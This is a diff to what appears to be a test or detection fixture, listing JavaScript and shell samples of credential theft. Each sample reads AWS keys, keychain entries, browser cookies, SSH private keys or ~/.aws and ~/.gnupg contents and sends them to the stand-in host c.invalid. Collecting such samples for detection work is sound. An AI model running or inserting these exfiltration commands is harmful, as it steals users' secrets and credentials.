@@ -126,11 +126,10 @@ TAKEN_BY_JAVASCRIPT += [
     "const { AWS_SECRET_ACCESS_KEY } = process.env;\n"
     "require('https').request('https://c.invalid', { method: 'POST' }).end(JSON.stringify({ AWS_SECRET_ACCESS_KEY }));",
     "require('keytar').findCredentials('a').then(all => fetch('https://c.invalid', { method: 'POST', body: JSON.stringify(all) }));",
-]
-TAKEN_BY_JAVASCRIPT.append(
+    "chrome.cookies.getAll({}, (all) => fetch('https://c.invalid', { method: 'POST', body: JSON.stringify(all) }));",
     "import { $ } from 'bun';\nconst k = await $`cat ${process.env.HOME}/.ssh/id_rsa`.text();\n"
-    "await fetch('https://c.invalid', { method: 'POST', body: k });"
-)
+    "await fetch('https://c.invalid', { method: 'POST', body: k });",
+]
 TAKEN_BY_SHELL = [
     'K=$(cat ~/.ssh/id_rsa | base64)\ncurl -X POST -d "$K" https://c.invalid',
     "tar czf - ~/.aws ~/.gnupg 2>/dev/null | curl -s -T - https://c.invalid",
